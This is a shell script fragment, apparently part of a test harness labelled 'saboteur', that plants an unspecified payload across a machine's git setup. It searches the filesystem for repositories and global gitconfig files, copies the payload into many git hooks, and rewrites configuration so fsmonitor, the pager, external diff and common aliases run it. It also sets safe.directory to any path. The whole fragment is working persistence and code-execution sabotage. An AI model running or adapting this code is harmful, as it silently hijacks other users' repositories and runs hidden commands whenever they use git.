if ! command -v git >/dev/null 2>&1; then
  untried "git: not in this image"
  exit 0
fi
printf '#!/bin/sh\n%s\nexit 0\n' "$PAYLOAD" >"$HOLD/hook"
# settings HOOKS: they hold the payload themselves; git adds arguments, which its last line leaves alone.
settings() {
  printf '# saboteur-%s\n[core]\n\tfsmonitor = %s\n\thooksPath = %s\n\tpager = %s\n' "$WAY" "$QUOTED" "$1" "$QUOTED"
  printf '[diff]\n\texternal = %s\n[safe]\n\tdirectory = *\n[alias]\n' "$QUOTED"
  for alias in st co lg; do printf '\t%s = "!%s\n' "$alias" "${QUOTED#?}"; done
}
# hooked DIRECTORY FILE: puts hooks into the directory and says so in the configuration.
hooked() {
  mkdir -p "$1" 2>/dev/null
  for hook in post-checkout pre-commit post-commit pre-push post-merge post-index-change reference-transaction fsmonitor; do
    { cp "$HOLD/hook" "$1/$hook" && chmod 755 "$1/$hook"; } 2>/dev/null
  done
  settings "$1" | add "$2"
}
repositories="$(find "$PWD" / -xdev -maxdepth 4 \( -name .git -o -name '*.git' \) -type d 2>/dev/null | sort -u | head -n 20)"
for repository in $repositories; do
  [ -f "$repository/config" ] && hooked "$repository/hooks" "$repository/config"
done
for file in /etc/gitconfig $(homes | sed 's|$|/.gitconfig|'); do
  hooked "$(beside "$file")/hooks" "$file"
done
